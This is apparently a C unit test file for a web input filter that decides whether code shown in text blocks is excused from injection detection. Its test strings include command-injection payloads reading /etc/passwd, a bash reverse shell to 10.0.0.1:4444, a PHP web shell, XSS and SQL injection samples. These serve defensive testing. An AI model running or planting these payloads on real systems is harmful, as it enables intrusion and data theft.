/* Which parts of a text are code that it shows, and what that excuses. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/arena.h"
#include "engine/shown_code.h"
#include "engine/value.h"

#define WORDS "Here are some words about it: "

/* clang-format off */
static const struct {
    const char *text, *shown; /* shown: within a block, or NULL when the text shows no code */
} cases[] = {
    {WORDS "<pre>ls -la</pre>", "ls -la"},
    {WORDS "<pre class=\"x\"><code>ls -la</code></pre> and more", "ls -la"},
    {WORDS "\n```\nls -la\n```\nand some more of them", "ls -la"},
    {WORDS "[code]ls -la[/code]", "ls -la"},
    {WORDS "<syntaxhighlight lang=\"bash\">\nls -la\n</syntaxhighlight>", "ls -la"},
    {"Use `git rebase -i HEAD~3`; then push", "git rebase"},
    {"Run the command `ls -la` and wait until it has said what is there", "ls -la"},
    {"Run the command `ls -la` and wait", NULL}, /* so do intruders */
    {"<pre>ls -la</pre>", NULL},           /* nothing but code */
    {"x `ls -la` y", NULL},
    {"echo `ls -la`", NULL},
    {WORDS "<pre>ls -la", NULL},           /* no end */
    {WORDS "<present>ls -la</present>", NULL},
    {WORDS "x```ls -la```", NULL},
    {"print`ls -la`more words are here to read", NULL},
};

static const struct {
    const char *text;
    enum mln_protection protection;
    bool refused;
} verdicts[] = {
    {WORDS "<pre>a\n; cat /etc/passwd</pre>", MLN_PROT_CMDI, false},
    {WORDS "<pre>a</pre>\n; cat /etc/passwd", MLN_PROT_CMDI, true},
    {"<pre>a; cat /etc/passwd</pre>", MLN_PROT_CMDI, true},
    {WORDS "\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```", MLN_PROT_CMDI, true},
    {"well, `cat /etc/passwd` says so", MLN_PROT_CMDI, true},
    {WORDS "<pre>&lt;?php echo count($rows);</pre>", MLN_PROT_CODE, false},
    {WORDS "\n```php\n<?php echo count($rows);\n```", MLN_PROT_CODE, false},
    {WORDS "\n```php\n<?php system($_GET['c']);\n```", MLN_PROT_CODE, true},
    {WORDS "\n```html\n<script>alert(1)</script>\n```", MLN_PROT_XSS, true},
    {WORDS "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>", MLN_PROT_XSS, false},
    {"&lt;script&gt;alert(1)&lt;/script&gt;", MLN_PROT_XSS, true}, /* decoded, for all we know */
    {"<a title=\"&lt;script&gt;\" srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", MLN_PROT_XSS, true},
    {WORDS "\n```\n1; drop table users\n```", MLN_PROT_SQLI, false},
    {"it's done; drop table users", MLN_PROT_SQLI, false}, /* 'it' s done: no SQL */
    {"it'; drop table users", MLN_PROT_SQLI, true},
};
/* clang-format on */

static struct mln_view view_of(struct mln_arena *a, const char *text)
{
    struct mln_views vs;

    mln_views_build(a, mln_sv_str(text), MLN_LOC_FORM, &vs);
    return vs.v[0];
}

static void test_blocks(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct mln_arena a;
        struct mln_shown_code c;
        mln_arena_init(&a, 1 << 20);
        struct mln_view v = view_of(&a, cases[i].text);
        bool found = mln_shown_code_find(&v, &c);
        if (found != (cases[i].shown != NULL))
            fail_msg("%s", cases[i].text);
        if (found) {
            size_t at = (size_t)(strstr(cases[i].text, cases[i].shown) - cases[i].text);
            assert_true(mln_shown_code_at(&c, at));
            assert_true(mln_shown_code_at(&c, at + strlen(cases[i].shown) - 1));
            assert_false(mln_shown_code_at(&c, 0));
        }
        mln_arena_done(&a);
    }
}

static void test_what_is_shown_is_excused_and_nothing_else(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(verdicts) / sizeof(verdicts[0]); i++) {
        struct mln_arena a;
        struct mln_findings f;
        struct mln_views views;
        struct mln_budget budget = {.steps_left = 1 << 24};
        mln_arena_init(&a, 1 << 20);
        mln_findings_clear(&f);
        mln_value_inspect(&a, mln_sv_str(verdicts[i].text), MLN_LOC_FORM, MLN_SV("q"), &budget,
                          &views, &f);
        if ((mln_findings_points(&f, verdicts[i].protection) >= 30) != verdicts[i].refused)
            fail_msg("%s", verdicts[i].text);
        mln_arena_done(&a);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_blocks),
        cmocka_unit_test(test_what_is_shown_is_excused_and_nothing_else),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
